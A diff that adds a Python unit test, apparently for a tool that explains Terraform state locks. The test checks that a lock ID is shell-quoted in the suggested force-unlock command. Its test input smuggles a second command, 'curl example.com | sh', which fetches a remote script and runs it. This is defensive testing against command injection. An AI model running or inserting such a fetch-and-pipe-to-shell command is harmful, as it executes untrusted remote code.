@@ -48,6 +48,12 @@ def test_a_held_lock_says_who_holds_it_since_when_and_how_to_break_it() -> None:
     )
 
 
+def test_a_locks_id_is_quoted_in_the_command_that_breaks_it() -> None:
+    """It is what somebody wrote into the state bucket."""
+    said = LOCKED.replace("dd4f1351-7ca4-c7e6-b4b8-56acfd85fbef", "x; curl example.com | sh")
+    assert "`/opt/bin/terraform force-unlock -force 'x; curl example.com | sh'` in" in str(refusal(said, BASE, "apply"))
+
+
 # Of Terraform 1.11, of a session that ended during an apply; and folded, as it is where nobody is at a terminal.
 NOT_SAVED = """
 │ Error: Failed to save state
